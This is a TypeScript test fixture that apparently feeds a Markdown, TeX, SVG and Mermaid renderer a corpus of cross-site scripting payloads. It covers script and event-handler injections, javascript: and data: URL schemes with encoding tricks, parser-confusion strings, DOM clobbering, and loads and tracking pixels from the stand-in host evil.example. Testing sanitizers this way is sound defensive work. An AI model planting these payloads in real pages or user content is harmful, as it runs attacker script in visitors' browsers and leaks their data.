/** What every script of the corpus calls when it runs: pages of the test define it and remember the call. */
const call = 'alert(1)'
/** Another host, which nothing may reach. */
const elsewhere = 'https://evil.example'

const handlers = ['onerror', 'onload', 'onclick', 'onmouseover', 'onfocus', 'ontoggle', 'onanimationstart', 'onpointerenter', 'onbegin', 'onscroll']
const schemes = [
  'javascript:alert(1)', 'JaVaScRiPt:alert(1)', ' javascript:alert(1)', 'java\tscript:alert(1)', 'javascript&#58;alert(1)', 'javascript&colon;alert(1)', '&#106;avascript:alert(1)',
  'vbscript:alert(1)', 'data:text/html,<script>alert(1)</script>', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', 'data:image/svg+xml,<svg onload=alert(1)>', 'blob:null/x', 'file:///etc/passwd',
  '//evil.example/x', 'javascript://%0aalert(1)', '\u0001javascript:alert(1)',
]

/** Raw HTML: elements that run scripts, load, or take over the page. */
export const htmlPayloads: string[] = [
  `<script>${call}</script>`, `<script src="${elsewhere}/x.js"></script>`, `<SCRIPT>${call}</SCRIPT>`, `<scr<script>ipt>${call}</scr</script>ipt>`, `<script\n>${call}</script\n>`,
  `<iframe src="javascript:${call}"></iframe>`, `<iframe srcdoc="<script>${call}</script>"></iframe>`, `<iframe src="${elsewhere}"></iframe>`, `<embed src="${elsewhere}/x.swf">`, `<object data="javascript:${call}"></object>`,
  `<form action="${elsewhere}"><button>Sign in</button></form>`, `<button formaction="javascript:${call}">x</button>`, '<base href="https://evil.example/">', `<meta http-equiv="refresh" content="0;url=${elsewhere}">`,
  `<link rel="stylesheet" href="${elsewhere}/x.css">`, `<style>@import "${elsewhere}/x.css";</style>`, `<style>*{background:url(${elsewhere}/x)}</style>`, `<div style="background:url(${elsewhere}/x)">x</div>`,
  `<a href="javascript:${call}">x</a>`, `<a href="x" ping="${elsewhere}">x</a>`, `<video><source onerror="${call}"></video>`, `<audio src=x onerror=${call}>`, `<details open ontoggle=${call}>`, `<input autofocus onfocus=${call}>`,
  `<marquee onstart=${call}>`, `<math href="javascript:${call}">CLICK</math>`, `<template><script>${call}</script></template>`, `<noscript><p title="</noscript><img src=x onerror=${call}>">`, `<img src=x onerror=${call}//`,
  `<img src="${elsewhere}/pixel.png">`, `<img srcset="${elsewhere}/pixel.png 1x">`, `<picture><source srcset="${elsewhere}/x.png"></picture>`, `<isindex action=javascript:${call}>`, `<body onload=${call}>`, `<textarea></textarea><script>${call}</script>`,
  '<!--><script>alert(1)</script>-->', '<![CDATA[<script>alert(1)</script>]]>', '<?xml-stylesheet href="javascript:alert(1)"?>', '<x onclick=alert(1) tabindex=1 id=x>x</x>#x', '<div id="__nuxt"></div>', '<a id="defaultView" name="cookie">x</a>',
  ...handlers.map((handler) => `<img src=x ${handler}="${call}">`),
  ...handlers.map((handler) => `<svg ${handler}=${call}><animate ${handler}=${call} attributeName=x dur=1s>`),
]

/** Markdown whose links and pictures lead where none may lead. */
export const linkPayloads: string[] = [
  ...schemes.map((scheme) => `[click](${scheme})`),
  ...schemes.map((scheme) => `[click](<${scheme}>)`),
  ...schemes.map((scheme) => `![picture](${scheme})`),
  ...schemes.slice(0, 8).map((scheme, index) => `[click][ref-${index}]\n\n[ref-${index}]: ${scheme}`),
  ...schemes.slice(0, 4).map((scheme) => `<${scheme}>`),
  `![picture](${elsewhere}/track.png?who=me)`, `[![picture](${elsewhere}/track.png)](javascript:${call})`, `[click](x "onmouseover=${call}")`, `[click](x "\\"><img src=x onerror=${call}>")`, `![a"onerror="${call}](x)`,
  `[a](https://x.example"onclick="${call})`, `[^1]\n\n[^1]: <img src=x onerror=${call}>`, `[^"><img src=x onerror=${call}>]\n\n[^"><img src=x onerror=${call}>]: x`,
  `| <script>${call}</script> | a |\n|---|---|\n| <img src=x onerror=${call}> | [b](javascript:${call}) |`, `- [x] <img src=x onerror=${call}>`, `# <svg onload=${call}>`, `> <script>${call}</script>`, `**<img src=x onerror=${call}>**`, `\`<script>${call}</script>\``,
]

/** Formulas that ask TeX for more than a formula. */
export const formulaPayloads: string[] = [
  `\\href{javascript:${call}}{x}`, `\\url{javascript:${call}}`, `\\htmlData{x="onerror=${call}"}{x}`, `\\htmlStyle{background:url(${elsewhere}/x)}{x}`, '\\htmlClass{fixed inset-0}{x}', '\\htmlId{__nuxt}{x}', `\\includegraphics{${elsewhere}/x.png}`,
  `\\text{<img src=x onerror=${call}>}`, '\\def\\x{\\x\\x}\\x', `\\unicode{<script>${call}</script>}`, `\\class{"><script>${call}</script>}{x}`,
].map((source) => `$$\n${source}\n$$`)

/** Pictures as source: SVG and diagrams. */
export const picturePayloads: string[] = [
  ...[
    `<svg xmlns="http://www.w3.org/2000/svg" onload="${call}"><script>${call}</script><rect width="9" height="9"/></svg>`, `<svg xmlns="http://www.w3.org/2000/svg"><image href="${elsewhere}/x.png"/></svg>`, `<svg><foreignObject><iframe src="javascript:${call}"/></foreignObject></svg>`,
    `<svg><a href="javascript:${call}"><text y="9">x</text></a></svg>`, `<svg><use href="${elsewhere}/x.svg#x"/></svg>`, `<svg><style>@import "${elsewhere}/x.css";</style></svg>`, `<svg><set attributeName="onmouseover" to="${call}"/></svg>`,
  ].map((source) => `\`\`\`svg\n${source}\n\`\`\``),
  ...[
    `graph TD\n  A["<img src=x onerror=${call}>"] --> B`, `graph TD\n  A --> B\n  click A "javascript:${call}"`, `graph TD\n  A --> B\n  click A href "javascript:${call}" _self`, `graph TD\n  A --> B\n  click A call ${call}`,
    `%%{init: {"securityLevel": "loose", "theme": "base"}}%%\ngraph TD\n  A["<script>${call}</script>"]`, `sequenceDiagram\n  A->>B: <img src=x onerror=${call}>`, `graph TD\n  A["<iframe src=${elsewhere}>"]`, `---\ntitle: <img src=x onerror=${call}>\n---\ngraph TD\n  A`,
  ].map((source) => `\`\`\`mermaid\n${source}\n\`\`\``),
]

/** What stands behind a fence is text too. */
export const fencePayloads: string[] = [`\`\`\`"><script>${call}</script>\ncode\n\`\`\``, `\`\`\`js <img src=x onerror=${call}>\ncode\n\`\`\``, `\`\`\`html\n<script>${call}</script>\n\`\`\``, `\`\`\`html title="<img src=x onerror=${call}>"\n<p>x</p>\n\`\`\``]

export const allPayloads: string[] = [...htmlPayloads, ...linkPayloads, ...formulaPayloads, ...picturePayloads, ...fencePayloads]
